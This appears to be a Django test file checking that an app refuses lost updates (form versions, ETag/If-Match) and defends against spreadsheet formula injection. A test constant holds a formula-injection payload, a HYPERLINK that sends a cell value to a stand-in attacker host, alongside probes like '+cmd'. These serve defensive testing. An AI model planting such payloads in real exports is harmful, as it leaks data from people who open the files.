"""The one write path (core.writes): lost updates refused, formula cells neutralised, domain hooks in every channel."""

import csv
import io

from django.test import Client, TestCase
from django.urls import reverse
from rest_framework.test import APIClient

from parkos.core.downloads import neutralise
from parkos.core.resources import export_bytes, load_dataset, resource_for
from parkos.core.testing import World
from parkos.directory.models import Organization

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


class LostUpdateTests(TestCase):
    """Two people open the same record; the second save must not silently overwrite the first (issue 12 #13)."""

    @classmethod
    def setUpTestData(cls):
        cls.world = World.build()
        cls.admin = cls.world.users["operator_admin"]
        cls.org = Organization.objects.create(name="Shared Ltd", district="Minhang")

    def edit_url(self):
        return reverse("directory:organization_edit", kwargs={"pk": self.org.pk})

    def test_second_form_save_shows_both_values_instead_of_overwriting(self):
        first, second = Client(), Client()
        first.force_login(self.admin)
        second.force_login(self.admin)
        form_a = first.get(self.edit_url()).context["form"]
        form_b = second.get(self.edit_url()).context["form"]
        version = form_a.initial["opened_version"]
        self.assertEqual(version, form_b.initial["opened_version"])
        base = {"name": "Shared Ltd", "kind": "enterprise", "opened_version": version}
        self.assertEqual(first.post(self.edit_url(), {**base, "district": "Pudong"}).status_code, 302)
        response = second.post(self.edit_url(), {**base, "district": "Xuhui"})
        self.assertEqual(response.status_code, 400)
        self.org.refresh_from_db()
        self.assertEqual(self.org.district, "Pudong")
        errors = response.context["form"].errors
        self.assertIn("Pudong", " ".join(errors["district"]))
        self.assertIn("Xuhui", " ".join(errors["district"]))
        # Saving again is a deliberate choice: the form now carries the version just seen.
        again = response.context["form"].data["opened_version"]
        self.assertEqual(
            second.post(self.edit_url(), {**base, "opened_version": again, "district": "Xuhui"}).status_code, 302
        )
        self.org.refresh_from_db()
        self.assertEqual(self.org.district, "Xuhui")

    def test_api_etag_and_if_match(self):
        api = APIClient()
        api.force_authenticate(self.admin)
        url = reverse("directory-api:organization-detail", kwargs={"pk": self.org.pk})
        etag = api.get(url)["ETag"]
        self.assertTrue(etag.startswith('"'))
        self.assertEqual(api.patch(url, {"district": "A"}, format="json", HTTP_IF_MATCH=etag).status_code, 200)
        stale = api.patch(url, {"district": "B"}, format="json", HTTP_IF_MATCH=etag)
        self.assertEqual(stale.status_code, 412, stale.content)
        self.assertIn("district", stale.json())
        self.org.refresh_from_db()
        self.assertEqual(self.org.district, "A")
        self.assertEqual(api.patch(url, {"district": "C"}, format="json").status_code, 200)  # no If-Match: as before


class FormulaCellTests(TestCase):
    """A name that a spreadsheet would run as a formula is neither exported live nor imported (issue 12 #7)."""

    @classmethod
    def setUpTestData(cls):
        cls.world = World.build()
        cls.admin = cls.world.users["operator_admin"]
        cls.org = Organization.objects.create(name=FORMULA)

    def test_neutralise_keeps_numbers_and_quotes_formulas(self):
        self.assertEqual(neutralise("-12.5"), "-12.5")
        self.assertEqual(neutralise(-3), -3)
        for text in ("=1+1", "+cmd", "-x", "@SUM(A1)", "\tx"):
            self.assertEqual(neutralise(text), "'" + text)
        self.assertEqual(neutralise("Acme"), "Acme")

    def test_csv_and_xlsx_exports_hold_no_live_formula(self):
        resource = resource_for("directory.organization")(user=self.admin)
        queryset = Organization.objects.filter(pk=self.org.pk)
        rows = list(csv.reader(io.StringIO(export_bytes(resource, queryset, "csv").decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        self.assertIn("'" + FORMULA, cells)
        self.assertNotIn(FORMULA, cells)
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(export_bytes(resource, queryset, "xlsx")))
        values = [c.value for row in book.active.iter_rows() for c in row]
        self.assertIn("'" + FORMULA, values)
        self.assertNotIn(FORMULA, values)

    def test_import_refuses_formula_text_naming_the_column(self):
        resource = resource_for("directory.organization")(user=self.admin)
        for name in (FORMULA, "+1 555", "@here", "'=1+1"):
            quoted = name.replace('"', '""')
            dataset = load_dataset(f'id,name\n,"{quoted}"\n'.encode(), "orgs.csv")
            report = resource.import_dataset(dataset, dry_run=False)
            self.assertFalse(report.ok, name)
            self.assertEqual((report.errors[0].field, report.errors[0].line), ("name", 2), name)
            self.assertIn("formula", report.errors[0].message)
        self.assertFalse(Organization.objects.filter(name__in=["+1 555", "@here"]).exists())
